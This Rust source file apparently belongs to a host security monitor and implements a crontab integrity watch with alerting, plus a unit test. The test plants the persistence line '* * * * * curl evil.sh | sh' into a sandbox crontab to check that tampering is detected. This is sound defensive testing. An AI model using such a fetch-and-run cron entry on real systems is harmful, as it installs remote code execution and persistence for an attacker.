use colored::Colorize;

use crate::application::services::dispatcher::AlertDispatcher;
use crate::application::services::scanner::crontab::CrontabWatch;
use crate::application::services::scanner::SecurityScanner;
use crate::domain::entities::alert::Alert;
use crate::presentation::cli::formatters::alert_fmt::format_alerts;

pub const CRONTAB_SENT_MESSAGE: &str = "Crontab modifications detected! Security team notified.";
pub const CRONTAB_UNSENT_MESSAGE: &str =
    "Crontab modifications detected but no administrator could be notified.";

/// Recent-modification check followed by the content integrity watch.
pub fn execute_crontab_watch(
    scanner: &SecurityScanner<'_>,
    watch: &CrontabWatch<'_>,
    dispatcher: &AlertDispatcher<'_>,
) -> Vec<Alert> {
    let alerts: Vec<Alert> = scanner
        .check_crontab_modifications()
        .into_iter()
        .chain(watch.check_integrity())
        .collect();
    super::dispatch(
        dispatcher,
        &alerts,
        "monitor-crontabs",
        CRONTAB_SENT_MESSAGE,
        CRONTAB_UNSENT_MESSAGE,
    );
    alerts
}

pub fn run_monitor_crontabs(
    scanner: &SecurityScanner<'_>,
    watch: &CrontabWatch<'_>,
    dispatcher: &AlertDispatcher<'_>,
) -> bool {
    let alerts = execute_crontab_watch(scanner, watch, dispatcher);
    if alerts.is_empty() {
        println!("{}", "✅ No crontab modifications detected".green());
        return false;
    }
    format_alerts(&alerts);
    true
}

#[cfg(test)]
#[allow(clippy::expect_used)]
mod tests {
    use super::*;
    use crate::infrastructure::persistence::in_memory_store::InMemoryFingerprintStore;
    use crate::presentation::cli::commands::test_support::{
        sandbox_config, QuietInspector, RecordingNotifier,
    };
    use filetime::{set_file_mtime, FileTime};

    #[test]
    fn edited_crontab_is_reported_after_baseline() {
        let dir = tempfile::tempdir().expect("tempdir");
        let config = sandbox_config(dir.path());
        let cron = dir.path().join("cron");
        std::fs::create_dir_all(&cron).expect("mkdir");
        let file = cron.join("root");
        std::fs::write(&file, "0 3 * * * /usr/local/bin/backup\n").expect("write");
        set_file_mtime(&file, FileTime::from_unix_time(1_000_000_000, 0)).expect("mtime");

        let store = InMemoryFingerprintStore::new();
        let scanner = SecurityScanner::new(&QuietInspector, &store, &config).expect("scanner");
        let watch = CrontabWatch::new(&store, vec![cron.clone()]);
        let notifier = RecordingNotifier::default();
        let dispatcher = AlertDispatcher::new(&notifier);

        assert!(execute_crontab_watch(&scanner, &watch, &dispatcher).is_empty());

        std::fs::write(&file, "* * * * * curl evil.sh | sh\n").expect("write");
        set_file_mtime(&file, FileTime::from_unix_time(1_000_000_000, 0)).expect("mtime");
        let alerts = execute_crontab_watch(&scanner, &watch, &dispatcher);
        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0].title, "Crontab Content Changed");
        assert_eq!(notifier.count(), 1);
    }
}
